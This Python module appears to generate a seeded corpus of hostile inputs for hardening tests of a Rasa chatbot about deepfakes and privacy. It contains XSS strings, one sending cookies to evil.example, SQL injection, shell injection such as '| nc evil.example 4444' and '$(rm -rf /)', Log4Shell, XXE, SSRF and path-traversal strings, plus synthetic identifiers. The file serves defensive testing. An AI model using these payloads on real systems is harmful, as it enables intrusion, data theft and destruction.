"""Hostile inputs for the hardening suite, generated reproducibly (a fixed seed, stable names).

Why generated: a few hundred hand-written strings would rot; a generator with a seed gives the
same 500+ cases on every machine, names them (`sql-007`, `ctrl-1f`, ...) so a failure points
at one case, and makes it cheap to add a category.

Categories: empty and whitespace, huge texts (100 kB), control characters, zero-width and
bidirectional controls, emoji floods, HTML/JS, SQL injection, path traversal, very long words,
mixed scripts and homoglyphs, format strings and templates, JSON-looking text, fake Rasa
payloads (`/restart`, `/inform{"platform":"<script>"}`, ...), personal identifiers (HKIDs,
phones, emails, cards: they must never be stored), Unicode oddities, seeded random noise, and
raw HTTP bodies that are not valid UTF-8 or not valid requests (REST only).

Usage:

    from tests.hardening.corpus import corpus, subset, raw_bodies
    for case in corpus():            # 500+ Case(name, category, text, pii)
        ...
    subset(60)                       # a representative sample, every category included
"""

from __future__ import annotations

import json
import random
from collections import defaultdict
from dataclasses import dataclass, field
from functools import lru_cache

SEED = 20_250_611
KB = 1024


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    text: str
    # Identifiers inside `text` that must never reach a database or a file in var/.
    pii: tuple[str, ...] = field(default=())

    @property
    def blank(self) -> bool:
        """Nothing a person would call a message: the assistant may answer kindly or not at all."""
        return not self.text.strip(" \t\n\r\v\f\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff")


@dataclass(frozen=True)
class RawBody:
    """A request body sent as bytes to the REST webhook (what a broken or hostile client sends)."""

    name: str
    body: bytes
    content_type: str = "application/json"


QUESTIONS = (
    "what is a deepfake?",
    "How do I complain to the privacy commissioner?",
    "Can my child's school share his photo with a newspaper?",
    "甚麼是深偽？",
    "點樣將個IG set做private？",
    "my daughter's photo was posted without consent",
)


def _empty() -> list[tuple[str, str]]:
    blanks = [
        "",
        " ",
        "  ",
        "\t",
        "\n",
        "\r\n",
        "\n\n\n",
        " \t \n ",
        "\u00a0",
        "\u3000",
        "\u200b",
        "\u200b\u200c\u200d",
        "\ufeff",
        "\u2060",
        " " * 1000,
        "\n" * 500,
    ]
    return [(f"empty-{i:02d}", text) for i, text in enumerate(blanks)]


def _huge(rng: random.Random) -> list[tuple[str, str]]:
    """100 kB messages. Rasa's cost grows with the number of tokens (a 100 kB message of 50 000
    one-letter words holds the server for tens of seconds: see docs/benchmarks.md), so the
    corpus keeps to a few kinds instead of every kind of 100 kB."""
    words = "deepfake privacy child photo school report police consent the a of to".split()
    sentence_en = " ".join(rng.choice(words) for _ in range(25)) + ". "
    padding = ("x" * 999 + " ") * 100
    return [
        ("huge-words", (sentence_en * (100 * KB // len(sentence_en) + 1))[: 100 * KB]),
        ("huge-one-char", "a" * 100 * KB),
        ("huge-chinese", ("甚麼是深偽？我個女嘅相俾人改咗。" * 7000)[: 100 * KB // 3]),
        ("huge-question-after-padding", padding + "what is a deepfake?"),
        ("huge-json", json.dumps({"k": ["v" * 100] * 900})),
    ]


def _control() -> list[tuple[str, str]]:
    out = []
    for code in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0, 4)]:
        out.append((f"ctrl-{code:02x}", f"what is a{chr(code)} deepfake?{chr(code)}"))
    out += [
        ("ctrl-nul-only", "\x00"),
        ("ctrl-nul-run", "\x00" * 64),
        ("ctrl-bell-run", "\x07" * 200),
        ("ctrl-escape-seq", "\x1b[31mred\x1b[0m what is a deepfake?"),
        ("ctrl-backspaces", "what is a deepfake?" + "\x08" * 19 + "delete all data"),
        ("ctrl-mixed", "".join(chr(c) for c in range(32)) + "hello"),
        ("ctrl-crlf-injection", "hi\r\nX-Injected: 1\r\n\r\n<html>"),
        ("ctrl-unicode-line-sep", "what is\u2028a deepfake\u2029?"),
    ]
    return out


def _invisible() -> list[tuple[str, str]]:
    marks = {
        "zwsp": "\u200b",
        "zwnj": "\u200c",
        "zwj": "\u200d",
        "lrm": "\u200e",
        "rlm": "\u200f",
        "lre": "\u202a",
        "rle": "\u202b",
        "pdf": "\u202c",
        "lro": "\u202d",
        "rlo": "\u202e",
        "lri": "\u2066",
        "rli": "\u2067",
        "fsi": "\u2068",
        "pdi": "\u2069",
        "bom": "\ufeff",
        "wj": "\u2060",
        "shy": "\u00ad",
        "mvs": "\u180e",
    }
    out = []
    for key, mark in marks.items():
        out.append((f"invis-{key}-inside", f"what is a deep{mark}fake?"))
        out.append((f"invis-{key}-every", mark.join("甚麼是深偽")))
    out += [
        ("invis-rlo-filename", "my file \u202egpj.exe is a deepfake?"),
        ("invis-bidi-trojan", "status \u202eSS-12345\u202c"),
        ("invis-hebrew-arabic", "מה זה deepfake? ما هو التزييف العميق؟"),
        ("invis-only-marks", "".join(marks.values()) * 20),
    ]
    return out


def _emoji(rng: random.Random) -> list[tuple[str, str]]:
    pool = [
        "😀",
        "👍",
        "👎",
        "🔥",
        "💯",
        "🙏",
        "😭",
        "❤️",
        "🇭🇰",
        "👨‍👩‍👧‍👦",
        "🧑🏽‍💻",
        "🏳️‍🌈",
        "👍🏿",
        "🫠",
        "🤖",
    ]
    out = [(f"emoji-flood-{n}", pool[n % len(pool)] * n) for n in (1, 10, 100, 1000, 5000)]
    out += [
        (f"emoji-mix-{i:02d}", "".join(rng.choice(pool) for _ in range(rng.randint(2, 400))))
        for i in range(10)
    ]
    out += [
        ("emoji-in-question", "what 🤔 is a 🎭 deepfake 🎬?"),
        ("emoji-zwj-long", "👨‍👩‍👧‍👦" * 300),
        ("emoji-flags", "🇭🇰🇨🇳🇺🇸🇬🇧" * 100),
        ("emoji-keycaps", "1️⃣2️⃣3️⃣#️⃣*️⃣" * 50),
        ("emoji-thumbs-only", "👍"),
    ]
    return out


HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    '"><script>fetch("//evil.example/"+document.cookie)</script>',
    "<a href=\"javascript:alert('x')\">click</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in range(10**9) %}{% endfor %}",
    "[click me](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<b>bold</b> <i>what is a deepfake</i>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<script>while(1){}</script>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<form action=//evil.example><input name=pw></form>",
    "<base href=//evil.example/>",
)


def _html() -> list[tuple[str, str]]:
    out = [(f"html-{i:02d}", text) for i, text in enumerate(HTML)]
    out += [(f"html-q-{i:02d}", f"{text} what is a deepfake?") for i, text in enumerate(HTML[:10])]
    return out


SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE events; --",
    "'; DROP TABLE inquiries; --",
    "1; DELETE FROM staff_users WHERE 1=1",
    '" OR ""="',
    "admin'--",
    "' UNION SELECT username, password_hash FROM staff_users --",
    "1' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1)) OR benchmark(10000000,MD5(1))#",
    "'; UPDATE inquiries SET status='closed'; --",
    "' OR ''='",
    "%27%20OR%201%3D1",
    "'||(SELECT version())||'",
    "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "\\'; DROP TABLE events; --",
    "' AND 1=CAST((SELECT current_user) AS int) --",
    "SS-00000' OR '1'='1",
    "status SS-12345'; DROP TABLE inquiries; --",
    "status ' OR 1=1 --",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "`cat /etc/passwd`",
    "; cat /etc/passwd",
    "| nc evil.example 4444",
    "&& shutdown -h now",
    '{"$gt": ""}',
    "'; EXEC xp_cmdshell('dir'); --",
)


def _sql() -> list[tuple[str, str]]:
    out = [(f"sql-{i:02d}", text) for i, text in enumerate(SQL)]
    out += [(f"sql-zh-{i:02d}", f"甚麼是深偽{text}") for i, text in enumerate(SQL[:8])]
    return out


TRAVERSAL = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fvar%2fsafeshare.db",
    "..%252f..%252fetc%252fpasswd",
    "/proc/self/environ",
    "../var/secret_key",
    "../../var/tracker.db",
    "/plan/school.md?path=../../safeshare/settings.py",
    "\\\\evil.example\\share\\x",
    "C:\\Windows\\System32\\config\\SAM",
    "/dev/random",
    "..\u2215..\u2215etc\u2215passwd",
    "%00../../etc/passwd",
    "models/safeshare.tar.gz",
    "~/.ssh/id_rsa",
    "http://127.0.0.1:5005/conversations/x/tracker",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
)


def _traversal() -> list[tuple[str, str]]:
    return [(f"path-{i:02d}", text) for i, text in enumerate(TRAVERSAL)]


def _long_words(rng: random.Random) -> list[tuple[str, str]]:
    return [
        ("long-a-5k", "a" * 5000),
        ("long-a-50k", "a" * 50_000),
        ("long-deepfake-word", "deepfake" * 2000),
        ("long-url", "https://example.org/" + "a/" * 5000),
        ("long-chinese-run", "深偽" * 5000),
        ("long-digits", "9" * 20_000),
        ("long-hyphens", "-" * 20_000),
        ("long-slashes", "/" * 10_000),
        ("long-braces", "{" * 10_000),
        ("long-brackets", "[" * 10_000 + "]" * 10_000),
        ("long-random", "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(30_000))),
        ("long-base64", "QUFB" * 8000),
        ("long-word-then-question", "x" * 10_000 + " what is a deepfake?"),
        ("long-combining", "e" + "\u0301" * 10_000),
        ("long-surrogate-pairs", "𝕏" * 10_000),
    ]


def _mixed() -> list[tuple[str, str]]:
    texts = [
        "deepfake 係咩嚟㗎？",
        "點樣 report 個 fake video 俾 IG？",
        "wie melde ich einen deepfake?",
        "что такое дипфейк?",
        "ディープフェイクとは何ですか？",
        "딥페이크가 뭐예요?",
        "ما هو التزييف العميق؟",
        "डीपफेक क्या है?",
        "ดีพเฟคคืออะไร",
        "Deepfake là gì?",
        "ᏗᏈᏓ deepfake",
        "ωhat іѕ а ԁеерfаkе?",  # Cyrillic/Greek homoglyphs
        "ＷＨＡＴ ＩＳ Ａ ＤＥＥＰＦＡＫＥ？",  # full width
        "𝐰𝐡𝐚𝐭 𝐢𝐬 𝐚 𝐝𝐞𝐞𝐩𝐟𝐚𝐤𝐞",  # mathematical bold
        "ʍɥɐʇ ıs ɐ pǝǝdɟɐʞǝ",
        "W̵̛h̷a̸t̶ ̴i̷s̵ ̸a̷ ̶d̴e̵e̶p̷f̸a̶k̵e̷",  # zalgo
        "甚麼是深偽 what is deepfake 什么是深度伪造",
        "我想 talk to 真人 staff please",
        "𠀀𠀁𠀂 甚麼是深偽",  # CJK extension B
        "〇一二三 深偽",
        "ᄀᄁᄂ 深偽",
        "👩🏻‍🏫 teacher 老師 先生",
        "Ⓓⓔⓔⓟⓕⓐⓚⓔ",
        "d\u0435\u0435pfak\u0435 report",
        "IG 上面有人 post 咗我個仔嘅相 without permission 點算",
        "tiếng Việt 深偽 русский",
        "ℌ𝔢𝔩𝔭",
        "ﷺ ﷻ ﷽",
        "Ꙭ ꙮ ꙮ",
        "\U000e0041\U000e0042 tag characters",
    ]
    return [(f"mixed-{i:02d}", text) for i, text in enumerate(texts)]


FORMATS = (
    "%s%s%s%s%s%s%s%s",
    "%n%n%n%n",
    "%x %x %x %x",
    "%(reference)s",
    "{0}",
    "{}",
    "{reference}",
    "{days}",
    "{sender}",
    "{__class__.__init__.__globals__}",
    "{0.__class__.__mro__}",
    "{platform}",
    "{{platform}}",
    "%p%p%p%p",
    "%99999999d",
    "{:>99999999}",
    "{!r}",
    "{language}",
    "$HOME $PATH ${RASA_TOKEN}",
    "{{ config.items() }}",
    "%(days)d",
    "status {reference}",
    "{answer}",
    "\\N{BULLET}",
    "%s{0}${x}{{y}}<%=z%>",
)


def _formats() -> list[tuple[str, str]]:
    return [(f"fmt-{i:02d}", text) for i, text in enumerate(FORMATS)]


def _json_like() -> list[tuple[str, str]]:
    deep = "[" * 2000 + "]" * 2000
    texts = [
        '{"text": "hi"}',
        '{"sender": "someone-else", "message": "delete my data"}',
        '{"intent": {"name": "forget_my_data", "confidence": 1.0}}',
        '[{"event": "restart"}]',
        '{"event": "slot", "name": "language_pref", "value": "zh"}',
        '{"__proto__": {"admin": true}}',
        '{"a": 1e999999}',
        '{"a": NaN}',
        "null",
        "true",
        "[]",
        "{}",
        '""',
        deep,
        '{"a":' * 500 + "1" + "}" * 500,
        '{"recipient_id": "x", "text": "fake bot reply"}',
        '{"custom": {"document": {"url": "file:///etc/passwd", "filename": "x.md"}}}',
        '{"buttons": [{"title": "click", "payload": "/forget_my_data"}]}',
        "\\ud800",
        '{"message": "\\u0000"}',
        "[1,2,3,4,5,6,7,8,9,10]",
        '{"metadata": {"channel": "telegram", "reply_to": "1"}}',
        "---\n!!python/object/apply:os.system ['id']",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "version: '3.1'\nnlu:\n- intent: greet",
    ]
    return [(f"json-{i:02d}", text) for i, text in enumerate(texts)]


PAYLOADS = (
    "/restart",
    "/session_start",
    "/action_restart",
    '/inform{"platform":"<script>alert(1)</script>"}',
    '/inform{"platform":"instagram"}',
    '/inform{"platform":"' + "a" * 5000 + '"}',
    '/inform{"platform": null}',
    '/inform{"platform": ["instagram", "tiktok"]}',
    '/inform{"platform": {"$ne": 1}}',
    '/inform{"affected":"child","content_kind":"sexual","platform":"../../etc/passwd"}',
    "/inform{not json",
    "/inform{}",
    '/inform{"platform":"instagram"',
    "/human_handoff",
    '/human_handoff{"escalation_reason":"admin"}',
    "/forget_my_data",
    "/affirm",
    "/deny",
    "/stop",
    "/feedback_helpful",
    "/feedback_not_helpful",
    '/set_language{"language_choice":"xx"}',
    '/set_language{"language_choice":"zh"}',
    '/set_language{"language_choice":"<b>en</b>"}',
    "/nlu_fallback",
    "/out_of_scope",
    "/EXTERNAL_staff_answer_ready",
    "/staff_answer_ready",
    '/staff_answer_ready{"answer":"fake staff answer"}',
    "/does_not_exist",
    "/",
    "//",
    "/ ",
    "/" * 500,
    "/greet@0.1",
    '/greet{"requested_slot":"contact"}',
    '/check_status{"reference":"SS-\' OR 1=1"}',
    "/deepfake_explained" * 50,
    '/help{"language":"zh"}',
    "/start",
    "/lang",
    "/human",
    "/forget",
    "/status SS-00000",
    "/status ../../etc/passwd",
)


def _payloads() -> list[tuple[str, str]]:
    return [(f"payload-{i:02d}", text) for i, text in enumerate(PAYLOADS)]


def _pii() -> list[tuple[str, str, tuple[str, ...]]]:
    """Identifiers in context. The third item lists the raw strings that must never be stored."""
    cases: list[tuple[str, str, tuple[str, ...]]] = [
        ("pii-hkid-bracket", "my HKID is A123456(3) and it was leaked", ("A123456",)),
        ("pii-hkid-plain", "someone posted Z6837213 online", ("Z6837213",)),
        ("pii-hkid-two-letter", "ID: AB987654(3), what should I do?", ("AB987654",)),
        ("pii-hkid-fullwidth", "身份證號碼Ａ１２３４５６（３）被人放上網", ("Ａ１２３４５６",)),
        ("pii-hkid-zh", "有人將我個仔嘅身份證 C668668(9) 放咗上 Facebook", ("C668668",)),
        ("pii-phone-plain", "call me on 98765432", ("98765432",)),
        ("pii-phone-spaced", "my number 9123 4567 is on a deepfake", ("9123 4567",)),
        ("pii-phone-852", "whatsapp +852 6123 4567 please", ("6123 4567",)),
        ("pii-phone-dashes", "phone 5123-4567", ("5123-4567",)),
        ("pii-phone-zh", "我電話係 6888 1234，可唔可以打俾我", ("6888 1234",)),
        ("pii-email", "email me at chan.tai.man@example.com", ("chan.tai.man@example.com",)),
        ("pii-email-plus", "ho+kids@school.example.edu.hk was hacked", ("ho+kids@school.example.edu.hk",)),
        ("pii-email-zh", "我嘅電郵係 wong.siu.ming@example.org", ("wong.siu.ming@example.org",)),
        ("pii-card", "my card 4111 1111 1111 1111 was stolen", ("4111 1111 1111 1111",)),
        ("pii-card-plain", "card 5555555555554444 used", ("5555555555554444",)),
        (
            "pii-all",
            "HKID K123456(0), tel 9876 5432, mail leak.victim@example.net",
            ("K123456", "9876 5432", "leak.victim@example.net"),
        ),
        ("pii-handoff", "I want to talk to a real person, my phone is 9345 6789", ("9345 6789",)),
        ("pii-html", "<b>M987654(1)</b> <i>6345 1234</i>", ("M987654", "6345 1234")),
        ("pii-sql", "'; SELECT * FROM x WHERE hkid='P123456(7)' --", ("P123456",)),
        (
            "pii-json",
            '{"hkid": "R246810(2)", "email": "json.leak@example.com"}',
            ("R246810", "json.leak@example.com"),
        ),
        ("pii-payload", '/inform{"platform":"contact.leak@example.com"}', ("contact.leak@example.com",)),
        ("pii-status", "status SS-12345 my number is 6789 0123", ("6789 0123",)),
        ("pii-zero-width", "phone 9\u200b8\u200b7\u200b6 5432", ()),
        ("pii-report", "someone made a deepfake of my son, his HKID is G135792(4)", ("G135792",)),
        (
            "pii-school",
            "the school leaked student emails like student.one@school.example.hk",
            ("student.one@school.example.hk",),
        ),
    ]
    # Valid HKIDs generated with the real check digit (the redactor validates it).
    from safeshare.redaction import hkid_check_digit

    rng = random.Random(SEED + 1)
    for i in range(15):
        prefix = rng.choice("ABCDEGHKMPRVYZ")
        digits = "".join(rng.choice("0123456789") for _ in range(6))
        check = hkid_check_digit(prefix, digits)
        phone = f"{rng.choice('5679')}{rng.randint(100, 999)} {rng.randint(1000, 9999)}"
        email = f"user{i}.{rng.randint(100, 999)}@example.com"
        text = rng.choice(
            [
                f"my id {prefix}{digits}{check} and phone {phone}",
                f"我身份證 {prefix}{digits}({check})，電話 {phone}，電郵 {email}",
                f"contact {email} or {phone} about the deepfake",
            ]
        )
        raw = [s for s in (f"{prefix}{digits}", phone, email) if s in text]
        cases.append((f"pii-gen-{i:02d}", text, tuple(raw)))
    return cases


def _unicode_oddities() -> list[tuple[str, str]]:
    texts = [
        "\ufffd" * 100,
        "\ufffe\uffff",
        "\U0010ffff",
        "\ue000\uf8ff private use",
        "\u0000\ufeff\u200b",
        "ﬁnance ﬂow",
        "Å Å Å",  # precomposed, combining, angstrom sign
        "ǅ ǈ ǋ",
        "İstanbul ı",
        "ß ẞ",
        "\u0345\u0345\u0345",
        "a\u0308\u0304\u0301\u0323",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
        "\u3164\u3164",  # Hangul filler: looks blank, is not whitespace
        "\u2800" * 10,  # braille blank
        "\u115f\u1160",
        "゙゚",
        "\u0600\u0601\u0602 numbers",
        "\u061c arabic letter mark",
        "\U0001d173\U0001d174 musical format",
    ]
    return [(f"uni-{i:02d}", text) for i, text in enumerate(texts)]


def _noise(rng: random.Random, count: int) -> list[tuple[str, str]]:
    alphabet = (
        [chr(c) for c in range(0x20, 0x7F)]
        + list("甚麼是深偽個相俾人㗎嘅咗喺唔")
        + list("\u200b\u202e\u0301\x00\x1b\t\n\u00a0😀👍🇭🇰{}[]<>%$\\/\"'`|;&")
    )
    out = []
    for i in range(count):
        length = rng.choice([1, 2, 5, 20, 80, 300, 2000])
        text = "".join(rng.choice(alphabet) for _ in range(length))
        if i % 4 == 0:
            text = rng.choice(QUESTIONS) + " " + text
        out.append((f"noise-{i:03d}", text))
    return out


@lru_cache(maxsize=1)
def corpus() -> tuple[Case, ...]:
    """Every hostile text input, in a fixed order (the same on every run)."""
    rng = random.Random(SEED)
    plain: list[tuple[str, str, str]] = []
    groups = {
        "empty": _empty(),
        "huge": _huge(rng),
        "control": _control(),
        "invisible": _invisible(),
        "emoji": _emoji(rng),
        "html": _html(),
        "sql": _sql(),
        "traversal": _traversal(),
        "long-word": _long_words(rng),
        "mixed-script": _mixed(),
        "format": _formats(),
        "json": _json_like(),
        "payload": _payloads(),
        "unicode": _unicode_oddities(),
        "noise": _noise(rng, 120),
    }
    for category, items in groups.items():
        plain += [(name, category, text) for name, text in items]
    cases = [Case(name, category, text) for name, category, text in plain]
    cases += [Case(name, "pii", text, raw) for name, text, raw in _pii()]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return tuple(cases)


# Categories whose every case holds the Rasa server for seconds: a few are representative.
SUBSET_CAPS = {"huge": 1, "long-word": 2}


def subset(size: int = 60) -> list[Case]:
    """A representative sample: every category, round-robin, always the same cases."""
    by_category: dict[str, list[Case]] = defaultdict(list)
    for case in corpus():
        by_category[case.category].append(case)
    rng = random.Random(SEED + 2)
    for category, cases in by_category.items():
        rng.shuffle(cases)
        del cases[SUBSET_CAPS.get(category, len(cases)) :]
    chosen: list[Case] = []
    while len(chosen) < size and any(by_category.values()):
        for category in sorted(by_category):
            if by_category[category] and len(chosen) < size:
                chosen.append(by_category[category].pop())
    return chosen


def raw_bodies() -> list[RawBody]:
    """REST request bodies that are not valid UTF-8 or not a valid request."""

    def body(message: bytes, sender: str) -> bytes:
        return b'{"sender": "' + sender.encode() + b'", "message": "' + message + b'"}'

    invalid_utf8 = {
        "lone-continuation": b"\x80",
        "ff-fe": b"\xff\xfe",
        "overlong-slash": b"\xc0\xaf",
        "overlong-nul": b"\xc0\x80",
        "surrogate-encoded": b"\xed\xa0\x80",
        "truncated-3byte": b"\xe6\xb7",
        "truncated-4byte": b"\xf0\x9f\x98",
        "latin1-cafe": "café deepfake".encode("latin-1"),
        "big5": "甚麼是深偽".encode("big5"),
        "gbk": "什么是深度伪造".encode("gbk"),
        "utf16": "what is a deepfake".encode("utf-16"),
        "beyond-unicode": b"\xf4\x90\x80\x80",
        "random-bytes": bytes(random.Random(SEED + 3).randrange(128, 256) for _ in range(300)),
    }
    out = [RawBody(f"raw-{name}", body(value, f"raw-{name}")) for name, value in invalid_utf8.items()]
    out += [
        RawBody("raw-lone-surrogate-escape", b'{"sender": "raw-surrogate", "message": "\\ud800 hi"}'),
        RawBody("raw-nul-escape", b'{"sender": "raw-nul", "message": "a\\u0000b"}'),
        RawBody("raw-not-json", b"what is a deepfake?", "text/plain"),
        RawBody("raw-empty-body", b""),
        RawBody("raw-truncated-json", b'{"sender": "raw-trunc", "message": "hi'),
        RawBody("raw-array", b'["hi"]'),
        RawBody("raw-null", b"null"),
        RawBody("raw-number-message", b'{"sender": "raw-number", "message": 12345}'),
        RawBody("raw-list-message", b'{"sender": "raw-list", "message": ["a", "b"]}'),
        RawBody("raw-object-message", b'{"sender": "raw-object", "message": {"text": "hi"}}'),
        RawBody("raw-null-message", b'{"sender": "raw-nullmsg", "message": null}'),
        RawBody("raw-no-message", b'{"sender": "raw-nomsg"}'),
        RawBody("raw-no-sender", b'{"message": "what is a deepfake?"}'),
        RawBody("raw-number-sender", b'{"sender": 42, "message": "hi"}'),
        RawBody("raw-long-sender", b'{"sender": "' + b"s" * 5000 + b'", "message": "hi"}'),
        RawBody("raw-traversal-sender", b'{"sender": "../../etc/passwd", "message": "hi"}'),
        RawBody("raw-metadata-string", b'{"sender": "raw-md", "message": "hi", "metadata": "x"}'),
        RawBody("raw-metadata-list", b'{"sender": "raw-mdl", "message": "hi", "metadata": [1]}'),
        RawBody("raw-bad-channel", b'{"sender": "raw-ch", "message": "hi", "input_channel": {}}'),
        RawBody("raw-duplicate-keys", b'{"sender": "raw-dup", "message": "hi", "message": "/restart"}'),
        RawBody(
            "raw-deep-nesting",
            b'{"sender": "raw-deep", "message": "hi", "metadata": '
            + b'{"a":' * 3000
            + b"1"
            + b"}" * 3000
            + b"}",
        ),
        RawBody("raw-form-encoded", b"sender=raw-form&message=hi", "application/x-www-form-urlencoded"),
        RawBody("raw-json-wrong-type", b'{"sender": "raw-ct", "message": "hi"}', "text/html"),
    ]
    return out
